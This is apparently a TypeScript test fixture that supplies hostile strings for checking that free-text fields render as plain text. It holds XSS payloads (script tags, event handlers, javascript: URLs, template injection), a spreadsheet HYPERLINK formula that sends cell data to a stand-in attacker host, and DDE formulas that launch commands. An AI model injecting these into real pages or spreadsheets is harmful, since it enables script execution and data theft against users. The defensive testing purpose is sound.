// Hostile text for tests: classic markup, script-URL, template and spreadsheet-formula injections.
// Test-only (rollup's notShipped excludes `test-support/`). Every payload that could run script sets
// `window.__kehuXss = true` if it ever does, so a test can tell "shown as text" from "executed".

/** One hostile string and what it tries. */
export interface XssPayload {
  /** Short stable name, for failure messages. */
  id: string;
  /** The text to store in a free-text field. */
  text: string;
}

/** The global a payload sets when it runs. */
export const xssMarker = '__kehuXss';

const run = `window.${xssMarker}=true`;

/** ~28 payloads; each is plain text to a correct renderer. */
export const xssCorpus: readonly XssPayload[] = [
  { id: 'script', text: `<script>${run}</script>` },
  { id: 'img-onerror', text: `<img src=x onerror="${run}">` },
  { id: 'svg-onload', text: `<svg onload="${run}">` },
  { id: 'js-url', text: `javascript:${run}` },
  { id: 'iframe-srcdoc', text: `"><iframe srcdoc="<script>parent.${xssMarker}=true</script>"></iframe>` },
  { id: 'template-constructor', text: `{{constructor.constructor('${run}')()}}` },
  { id: 'template-literal', text: `\${${run}}` },
  { id: 'anchor-js', text: `<a href="javascript:${run}">click me</a>` },
  { id: 'style-break', text: `</style><script>${run}</script>` },
  { id: 'attr-break-single', text: `' onmouseover='${run}' x='` },
  { id: 'attr-break-double', text: `"><img src=x onerror=${run}>` },
  { id: 'textarea-break', text: `</textarea><img src=x onerror=${run}>` },
  { id: 'title-break', text: `</title><svg/onload=${run}>` },
  { id: 'details-ontoggle', text: `<details open ontoggle=${run}>x</details>` },
  { id: 'noscript-mxss', text: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { id: 'lit-marker', text: `<!--?lit$1234$--><img src=x onerror=${run}>` },
  { id: 'entities', text: `&lt;script&gt;${run}&lt;/script&gt;` },
  { id: 'css-url', text: `<div style="background:url(javascript:${run})">css</div>` },
  { id: 'data-url', text: `data:text/html,<script>${run}</script>` },
  { id: 'rlo', text: `\u202Efdp.exe<img src=x onerror=${run}>` },
  { id: 'zero-width', text: `<scr\u200Bipt>${run}</scr\u200Bipt>\u200B\uFEFF` },
  { id: 'hyperlink', text: `=HYPERLINK("http://evil.example/?"&A1,"x")` },
  { id: 'dde', text: `+cmd|' /C calc'!A0` },
  { id: 'at-sum', text: `@SUM(1+1)*cmd|' /C calc'!A0` },
  { id: 'minus', text: `-2+3+cmd|' /C calc'!A0` },
  { id: 'long', text: `${'长'.repeat(3000)}<script>${run}</script>` },
];

/** `text` cut to `maxLength` characters, keeping its head (what the field's schema allows). */
export function fit(text: string, maxLength: number | undefined): string {
  return maxLength === undefined ? text : text.slice(0, maxLength);
}
